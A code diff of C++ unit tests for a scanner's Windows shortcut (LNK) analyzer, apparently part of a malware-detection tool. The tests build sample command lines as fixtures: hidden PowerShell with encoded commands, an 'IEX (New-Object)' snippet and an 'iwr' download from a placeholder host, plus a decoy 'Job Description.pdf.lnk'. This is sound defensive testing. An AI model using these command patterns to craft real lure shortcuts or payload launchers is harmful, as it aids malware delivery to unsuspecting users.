@@ -4,13 +4,11 @@
 
 #include <gtest/gtest.h>
 
-#include <memory>
-
 #include "analyzers/lnk/lnk_fixture.h"
 #include "core/file_type.h"
 #include "core/testing/recording_context.h"
-#include "engine/config.h"
-#include "engine/scan.h"
+#include "engine/testing/scan_testing.h"
+#include "formats/script/script_encoder_fixture.h"
 
 namespace lg {
 namespace {
@@ -101,21 +99,31 @@ TEST(LnkAnalyzer, PowerShellHiddenEncoded) {
   ASSERT_TRUE(ctx.has(Symbol::LNK_LOLBIN));
   const auto* enc = find(ctx, Symbol::LNK_ENCODED_COMMAND);
   ASSERT_NE(enc, nullptr);
-  EXPECT_NE(enc->evidence.detail.find("-w hidden"), std::string::npos) << enc->evidence.detail;
+  EXPECT_EQ(enc->evidence.value, "IEX (New-Object)");
+  EXPECT_NE(enc->evidence.detail.find("-enc -w hidden"), std::string::npos) << enc->evidence.detail;
   EXPECT_EQ(ctx.str("target_path"),
             "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
 }
 
 TEST(LnkAnalyzer, EncodedSwitchPrefixesAndDashes) {
-  for (const std::string args : {"-EncodedCommand AAAA", "/ec AAAA", "-e AAAA",
-                                 "\xE2\x80\x93"
-                                 "enc AAAA",
-                                 "-WindowStyle Hidden -c x"}) {
+  const std::string encoded = script::testing::powershell_encoded("iwr https://cdn.example/a");
+  for (const std::string option : {"-EncodedCommand ", "/ec ", "-e ",
+                                   "\xE2\x80\x93"
+                                   "enc "}) {
     LnkSpec spec = cmd_spec();
-    spec.arguments = "/c powershell.exe " + args;
+    spec.arguments = "/c powershell.exe " + option + encoded;
     RecordingContext ctx = run(build_lnk(spec));
-    EXPECT_TRUE(ctx.has(Symbol::LNK_ENCODED_COMMAND)) << args;
+    const auto* enc = find(ctx, Symbol::LNK_ENCODED_COMMAND);
+    ASSERT_NE(enc, nullptr) << option;
+    EXPECT_EQ(enc->evidence.value, "iwr https://cdn.example/a") << option;
   }
+  LnkSpec hidden = cmd_spec();
+  hidden.arguments = "/c powershell.exe -WindowStyle Hidden -c x";
+  EXPECT_TRUE(run(build_lnk(hidden)).has(Symbol::LNK_ENCODED_COMMAND));
+  // A switch without a decodable command is not an encoded command.
+  LnkSpec junk = cmd_spec();
+  junk.arguments = "/c powershell.exe -enc AAAA";
+  EXPECT_FALSE(run(build_lnk(junk)).has(Symbol::LNK_ENCODED_COMMAND));
   LnkSpec plain = cmd_spec();
   plain.arguments = "/c powershell.exe -ExecutionPolicy Bypass -File x.ps1";
   EXPECT_FALSE(run(build_lnk(plain)).has(Symbol::LNK_ENCODED_COMMAND));
@@ -295,24 +303,15 @@ TEST(LnkAnalyzer, ThroughTheEngine) {
   spec.appended = "some appended payload bytes that are not a shortcut";
   const std::string bytes = build_lnk(spec);
   ASSERT_EQ(identify(as_bytes(bytes)), FileType::kLnk);
-  Config config = default_config();
-  TextScanner scanner;
-  Report report;
-  Scan scan(config, scanner, report, [](FileType t) -> std::unique_ptr<Analyzer> {
-    if (t == FileType::kLnk) return std::make_unique<LnkAnalyzer>();
-    return make_analyzer(t);
-  });
-  scan.run("Job Description.pdf.lnk", as_bytes(bytes));
+  const Report report = lg::testing::scan_bytes("Job Description.pdf.lnk", bytes);
   ASSERT_EQ(report.objects.size(), 2u)
       << (report.objects[0].anomalies.empty() ? std::string("no anomaly")
                                               : report.objects[0].anomalies[0]);
   EXPECT_EQ(report.objects[0].type, "lnk");
   EXPECT_EQ(report.objects[1].relation, "appended");
-  std::set<std::string> symbols;
-  for (const auto& f : report.findings) symbols.insert(f.symbol);
   for (const char* s :
        {"LNK_LOLBIN", "LNK_PADDED_ARGUMENTS", "LNK_APPENDED_DATA", "FILENAME_DOUBLE_EXTENSION"}) {
-    EXPECT_TRUE(symbols.count(s)) << s;
+    EXPECT_NE(lg::testing::find_symbol(report, s), nullptr) << s;
   }
   bool url = false;
   for (const auto& u : report.observables.urls) url |= u.host == "jobs-portal.example";
